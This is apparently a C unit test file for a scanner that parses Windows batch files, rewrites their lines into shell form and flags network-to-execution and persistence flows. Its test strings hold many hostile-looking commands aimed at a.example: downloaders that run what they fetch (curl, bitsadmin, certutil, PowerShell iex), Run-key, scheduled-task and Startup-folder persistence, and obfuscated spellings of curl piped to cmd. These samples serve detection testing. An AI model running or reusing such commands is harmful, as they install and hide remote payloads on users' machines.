/* Batch files: what their lines mean to a shell, and what they say. */
#include "unit/read/member.h"

#include "read/batch.h"
#include "read/readers.h"

static void lowers(const char *text, const char *want)
{
	struct arena a;
	struct budget budget = {.max_steps = 1 << 20};
	struct batch_script s;
	struct buf b;

	arena_init(&a, 0);
	batch_lower(&a, &budget, str_of(text), &s);
	buf_init(&b, 1 << 20);
	for (size_t i = 0; i < s.n; i++)
		buf_printf(&b, "%.*s\n", STR_ARG(s.pieces[i].code));
	if (!str_is(buf_str(&b), want))
		fail_msg("got:\n%.*swanted:\n%s", STR_ARG(buf_str(&b)), want);
	assert_false(s.limit);
	buf_release(&b);
	arena_release(&a);
}

static void lines(void **state)
{
	lowers("@echo off\r\nrem x\r\n:: y\r\n:label\r\ngoto label\r\nping -n 1 a.example\r\n",
		"echo \"off\"\nping \"-n\" \"1\" \"a.example\"\n");
	lowers("set A=cu\nset \"B=rl\"\n%A%%B% -s x\nc^u^r^l y & e^cho z\n", "curl \"-s\" \"x\"\ncurl \"y\"\necho \"z\"\n");
	lowers("set X=abcdef\necho %X:~1,2% %X:~-2% %X:bc=_% %Y%\n", "echo \"bc ef a_def ${Y}\"\n");
	lowers("%COMSPEC:~-7,3% /c \"curl x\"\n", "curl \"x\"\n");
	lowers("if exist C:\\a\\b (\n  del c\n) else copy /y \"C:\\x y\" D:\\z\n", "del \"c\"\ncp \"C:/x y\" \"D:/z\"\n");
	lowers("for /f \"tokens=1\" %%i in ('curl -s u') do %%i\n", "ITEM=$(curl \"-s\" \"u\")\n\"${ITEM}\"\n");
	lowers("start \"\" /b C:\\a\\b.exe -x\ncall x.bat >nul 2>&1\n", "\"C:/a/b.exe\" \"-x\" &\n\"x.bat\"  >\"/dev/null\" 2>&1\n");
	lowers("certutil.exe -urlcache -split -f http://a.example/x %TEMP%\\x.exe\n",
		"curl -o \"${TEMP}/x.exe\" \"http://a.example/x\"\n");
	lowers("certutil -decode a.b64 a.exe\n", "base64 -d < \"a.b64\" > \"a.exe\"\n");
	lowers("mshta http://a.example/x.hta\n", "curl -s \"http://a.example/x.hta\" | sh # mshta\n");
	lowers("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v U /d \"C:\\u.exe\" /f\n",
		"echo \"C:/u.exe\" > \"HKCU/Software/Microsoft/Windows/CurrentVersion/Run/U\"\n");
	lowers("powershell -c \"iex (iwr http://a.example/x.ps1)\"\n", "curl -s \"http://a.example/x.ps1\" | sh\n");
	lowers("powershell -c \"(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\x.exe')\"\n",
		"curl -o \"C:/x.exe\" \"http://a.example/x\"\n");
}

static struct member *read_batch(const char *old, const char *new_)
{
	struct member *m = member_make("x/run.bat", old ? str_of(old) : STR_NONE, str_of(new_));

	assert_true(reader_batch.claim(&m->in) > 0);
	assert_int_equal(reader_batch.read(&m->in), STATUS_OK);
	return m;
}

static const struct {
	const char *line, *flow;
} flows[] = {
	{"curl -s -o %TEMP%\\u.exe https://a.example/u.exe && %TEMP%\\u.exe", "net>run"},
	{"bitsadmin /transfer j /download https://a.example/u.exe %APPDATA%\\u.exe & start \"\" %APPDATA%\\u.exe", "net>run"},
	{"certutil -urlcache -f https://a.example/u.exe u.exe & u.exe", "net>run"},
	{"powershell -w hidden -c \"iex(irm https://a.example/x)\"", "net>exec"},
	{"schtasks /create /sc onlogon /tn upd /tr \"C:\\u.exe\"", "data>persist"},
	{"copy u.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe\"", "file>persist"},
};

static void say(void **state)
{
	static const char old[] = "@echo off\r\nset HERE=%~dp0\r\nnode \"%HERE%main.js\" %*\r\n";
	char text[1024];
	struct member *m;

	for (size_t i = 0; i < sizeof(flows) / sizeof(flows[0]); i++) {
		snprintf(text, sizeof(text), "@echo off\r\nset HERE=%%~dp0\r\n%s\r\nnode \"%%HERE%%main.js\" %%*\r\n", flows[i].line);
		m = read_batch(old, text);
		if (!member_find(m, FACT_FLOW, flows[i].flow))
			fail_msg("%s: no %s", flows[i].line, flows[i].flow);
		assert_int_equal(member_find(m, FACT_FLOW, flows[i].flow)->line, 3);
		assert_int_equal(m->covered[COVER_PARSED], m->in.new_.len);
		member_free(m);
	}
	m = read_batch(old, "@echo off\r\nset HERE=%~dp0\r\nset MODE=plain\r\nif not exist \"%HERE%x\" exit /b 1\r\nnode \"%HERE%main.js\" %*\r\n");
	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
	assert_int_equal(member_count(m, FACT_COMMAND, NULL), 0);
	member_free(m);
	m = read_batch(old, old);
	assert_int_equal(m->n_facts, 0);
	member_free(m);
}

static void spelled(void **state)
{
	struct member *m = read_batch("@echo off\n",
		"@echo off\nset Q=luhcr\n%Q:~3,1%%Q:~1,1%%Q:~4,1%%Q:~0,1% -s https://a.example/x | cmd\n");

	assert_int_equal(member_count(m, FACT_DECODED, "concat"), 1);
	assert_true(str_starts(member_find(m, FACT_DECODED, NULL)->value, "curl"));
	member_free(m);
}

static void anything(void **state)
{
	static const char text[] = "@if %1==(a ^& \"b\nfor /f %%a in ('x') do set /p !b:~1,!=%%~na^\n>>x 2>&1 %~dp0&&|(\n";

	for (size_t n = 0; n < sizeof(text); n++) {
		struct member *m = member_make("x.cmd", STR_NONE, str_view(text, n));

		(void)!reader_batch.read(&m->in);
		member_free(m);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(lines),
		cmocka_unit_test(say),
		cmocka_unit_test(spelled),
		cmocka_unit_test(anything),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
